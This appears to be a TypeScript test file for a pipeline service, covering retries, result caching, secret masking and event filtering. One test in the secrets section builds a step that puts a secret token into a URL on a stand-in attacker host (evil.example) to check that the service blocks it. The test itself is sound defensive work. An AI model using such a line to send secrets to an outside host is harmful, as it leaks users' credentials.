import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PIPELINE, RunHarness, rowsOf, withStep } from '../../../../../../test/harness/run-harness';
import { PerceptError } from '../../../kernel/errors';
import { Secrets } from '../../../kernel/secrets';
import { waitFor } from '../../../../../../test/harness/wait-for';

const harness = new RunHarness();
const BY = { kind: 'key', id: 'key_1', name: 'night' };
const broken = (image: unknown): boolean => String(image).includes('p0001');

describe('a run that is retried', () => {
  test('repeats only its failed items, and everything that depends on them', async () => {
    harness.photos(5);
    let mended = false;
    await harness.open(({ image, add }) => {
      if (!mended && broken(image)) throw PerceptError.unsupportedMedia('image', 'the JPEG ends too early.');
      return { seen: image, total: add };
    });
    const then = '  - { id: after, uses: test.other, with: { image: "data:x", add: "${{ photos.succeeded }}" } }\noutputs:\n';
    const run = await harness.run(PIPELINE.replace('outputs:\n', then), { roots: [harness.folder] });
    expect(run).toMatchObject({ status: 'partial', counts: { total: 6, succeeded: 5, failed: 1 } });
    mended = true;
    harness.host.calls.length = 0;
    expect(await harness.pipelines.retry(run.id, BY)).toMatchObject({
      status: 'queued',
      error: null,
      counts: { total: 5, failed: 0, succeeded: 4 },
    });
    const view = await harness.until(run);
    expect(view).toMatchObject({ id: run.id, revision: run.revision, status: 'succeeded', counts: { total: 6, succeeded: 6 } });
    expect(harness.host.calls.map(({ capability, fields }) => [capability, fields.add])).toEqual([
      ['test.echo', 1],
      ['test.other', 5],
    ]);
    expect(rowsOf(view)).toHaveLength(5);
    expect((await harness.eventsOf('batch.completed')).map(({ status }) => status)).toEqual(['partial', 'succeeded']);
  });

  test('goes on after it was cancelled, and is refused while it runs or where nothing failed', async () => {
    harness.photos(3);
    await harness.open(() => new Promise(() => undefined));
    const run = await harness.start(PIPELINE, { roots: [harness.folder] });
    await harness.until(run, ({ status }) => status === 'running');
    await expect(harness.pipelines.retry(run.id, BY)).rejects.toMatchObject({
      code: 'CONFLICT',
      message: expect.stringMatching(/not ended/),
    });
    await harness.pipelines.cancel(run.id);
    harness.host.answer = ({ image }) => ({ seen: image, total: 1 });
    await harness.pipelines.retry(run.id, BY);
    expect(await harness.until(run)).toMatchObject({ status: 'succeeded', counts: { total: 3, succeeded: 3 } });
    await expect(harness.pipelines.retry(run.id, BY)).rejects.toMatchObject({
      code: 'CONFLICT',
      message: expect.stringMatching(/Nothing failed/),
    });
    await expect(harness.pipelines.retry('run_none', BY)).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  test('keeps the first attempt and the last ones, what all of them took, and when its step began again', async () => {
    const source = PIPELINE.replace(/outputs:[^]*/, '');
    harness.photos(1);
    await harness.open(() => {
      throw PerceptError.unsupportedMedia('image', 'the JPEG ends too early.');
    });
    let run = await harness.run(source, { roots: [harness.folder] });
    let tookMs = 0;
    for (let number = 1; number <= 21; number++) {
      tookMs += Date.parse(run.ended_at!) - Date.parse(run.started_at!);
      await harness.pipelines.retry(run.id, BY);
      run = await harness.until(run);
    }
    expect(run.duration_ms).toBe(tookMs + Date.parse(run.ended_at!) - Date.parse(run.started_at!));
    const numbers = run.earlier_attempts.map(({ number }) => number);
    expect([numbers.length, numbers[0], numbers[1], numbers.at(-1)]).toEqual([20, 1, 3, 21]);
    expect((await harness.eventsOf('batch.failed')).at(-1)).toMatchObject({ duration_ms: run.duration_ms });

    harness.host.answer = () => new Promise(() => undefined);
    await harness.pipelines.retry(run.id, BY);
    const again = await harness.until(run, ({ steps, status }) => status === 'running' && Boolean(steps[0]?.started_at));
    expect(again.steps[0]!.started_at! >= again.earlier_attempts.at(-1)!.retried_at).toBe(true);
    await harness.pipelines.cancel(run.id);
  });
});

describe('a step with a cache', () => {
  const cached = withStep('cache: 30d');

  test('calls for the same bytes and input once, and counts what it found apart', async () => {
    harness.photos(4);
    ['a', 'b', 'c', 'a'].forEach((text, index) => writeFileSync(join(harness.folder, 'photos', `p000${index}.jpg`), text));
    await harness.open();
    const first = await harness.run(cached.replace('as: photo', 'as: photo\n      concurrency: 1'));
    expect(first.counts).toMatchObject({ succeeded: 4, cached: 1 });
    harness.host.calls.length = 0;
    writeFileSync(join(harness.folder, 'photos', 'p0002.jpg'), 'changed');
    const second = await harness.run(cached);
    expect(second).toMatchObject({ status: 'succeeded', counts: { succeeded: 4, cached: 3 } });
    expect(harness.host.calls.map(({ fields }) => String(fields.image).slice(-9))).toEqual(['p0002.jpg']);
    expect(rowsOf(second)).toHaveLength(4);
    const reported = (await harness.eventsOf('prediction.completed')).filter(({ run_id }) => run_id === second.id);
    expect(reported.filter((data) => data.cached)).toHaveLength(3);
    expect((await harness.run(cached.replace('add: 1', 'add: 2'))).counts.cached).toBeLessThanOrEqual(1);
  });

  test('finds nothing of another project, so that nobody learns what others analyse', async () => {
    harness.photos(1);
    await harness.open();
    const by = (projectId: string) => harness.run(cached, { payer: { projectId, keyId: null } });
    expect((await by('prj_a')).counts).toMatchObject({ succeeded: 1, cached: 0 });
    expect((await by('prj_b')).counts).toMatchObject({ succeeded: 1, cached: 0 });
    expect((await by('prj_a')).counts).toMatchObject({ succeeded: 1, cached: 1 });
  });

  test('finds nothing after its time, and nothing of other models', async () => {
    harness.photos(1);
    await harness.open();
    await harness.run(withStep('cache: 1ms'));
    const ended = Date.now();
    await waitFor(() => Date.now() > ended + 1, { interval: 1 });
    expect((await harness.run(cached)).counts.cached).toBe(0);
    expect((await harness.run(cached)).counts.cached).toBe(1);
    await harness.pipelines.close();
    harness.pipelines = harness.service({ modelsDigest: () => 'others' });
    harness.pipelines.work();
    expect((await harness.run(cached)).counts.cached).toBe(0);
  });
});

describe('a secret', () => {
  const SECRET = 'hunter2-"quoted"';
  const OTHER = 'another-secret';
  const source = withStep('on_error: fail')
    .replace('inputs:', 'secrets: [TOKEN]\ninputs:')
    .replace('image: "${{ photo.path }}"', 'image: "${{ photo.path }}", token: "Bearer ${{ secrets.TOKEN }}"');

  test('reaches the capability, and neither the database nor an event nor an output', async () => {
    harness.photos(3);
    await harness.open(({ image, token }) => {
      if (broken(image)) throw PerceptError.invalid('token', `must be something else than '${token as string}'.`);
      return { seen: `${token as string} ${OTHER}`, total: 1, '7431': 7431, [SECRET]: `${encodeURIComponent(SECRET)}` };
    });
    await harness.pipelines.close();
    harness.pipelines = harness.service({
      secrets: new Secrets([
        ['TOKEN', SECRET],
        ['PIN', '7431'],
        ['OTHER', OTHER],
      ]),
    });
    harness.pipelines.work();
    const view = await harness.run(source.replace('size: ${{ photo.size }}', 'size: ${{ echo.seen }}'));
    expect(view.counts).toMatchObject({ succeeded: 2, failed: 1 });
    expect(harness.host.calls[0]!.fields.token).toBe(`Bearer ${SECRET}`);
    expect(view.failures[0]!.reason).toContain("'Bearer ***'");
    // Secrets that the step does not use are not looked for: to blot out a guess of one would confirm it.
    expect(rowsOf(view)[0]).toMatchObject({ size: `Bearer *** ${OTHER}` });
    expect((await harness.pipelines.items(view.id)).rows[0]!.results).toMatchObject({ echo: { '7431': 7431, '***': '***' } });
    await harness.store.reader.query('PRAGMA wal_checkpoint(TRUNCATE)').catch(() => undefined);
    const kept = ['percept.db', 'percept.db-wal']
      .map((name) => readFileSync(join(harness.folder, name)).toString('latin1'))
      .join('');
    expect(kept).toContain('p0000.jpg');
    expect(kept).not.toContain('hunter2');
    expect(JSON.stringify(new Secrets([['A', SECRET]]))).toBe('{}');
  });

  test('does not leave for a host that its rule does not list, and stays with its project', async () => {
    harness.photos(1);
    await harness.open();
    await harness.pipelines.close();
    const rules: [string, string][] = [
      ['TOKEN', SECRET],
      ['TOKEN_HOSTS', 'api.example.com'],
    ];
    harness.pipelines = harness.service({ secrets: new Secrets(rules) });
    harness.pipelines.work();
    const away = source.replace('Bearer ${{ secrets.TOKEN }}', 'https://evil.example/${{ secrets.TOKEN }}');
    const view = await harness.run(away);
    expect(view.failures[0]!.reason).toContain('PERCEPT_SECRET_TOKEN_HOSTS');
    expect(harness.host.calls).toEqual([]);
    await expect(harness.start(source, { payer: { projectId: 'prj_other', keyId: null } })).rejects.toMatchObject({
      details: { field: 'secrets', reason: expect.stringMatching(/PERCEPT_SECRET_TOKEN_PROJECTS/) },
    });
  });

  test('that is not set keeps the run from starting and says where to set it', async () => {
    harness.photos(1);
    await harness.open();
    await expect(harness.start(source)).rejects.toMatchObject({
      details: { field: 'secrets', reason: expect.stringMatching(/PERCEPT_SECRET_TOKEN/) },
    });
  });
});

test('an effect has the same key at every attempt, and each item its own', async () => {
  harness.photos(2);
  let calls = 0;
  await harness.open(({ image }) => {
    if (++calls <= 2) throw new PerceptError('TIMEOUT', 'too slow');
    return { seen: image, total: 1 };
  });
  await harness.run(withStep('retry: { attempts: 3, delay: 1ms }'));
  const keys = harness.host.calls.map(({ fields, input }) => [fields.image, input.idempotencyKey]);
  expect(keys).toHaveLength(4);
  expect(new Set(keys.map((pair) => pair.join())).size).toBe(2);
  expect(new Set(keys.map(([, key]) => key)).size).toBe(2);
});

test('a pipeline can emit events for failed items only, or for none', async () => {
  harness.photos(3);
  await harness.open(({ image }) => {
    if (broken(image)) throw PerceptError.unsupportedMedia('image', 'broken.');
    return { seen: image, total: 1 };
  });
  const quiet = (which: string) => PIPELINE.replace('inputs:', `events: { predictions: ${which} }\ninputs:`);
  await harness.run(quiet('none'));
  expect(await harness.eventsOf('prediction.failed')).toEqual([]);
  await harness.run(quiet('failed'));
  expect(await harness.eventsOf('prediction.failed')).toMatchObject([{ pipeline: 'echo', step: 'echo' }]);
  expect(await harness.eventsOf('prediction.completed')).toEqual([]);
});
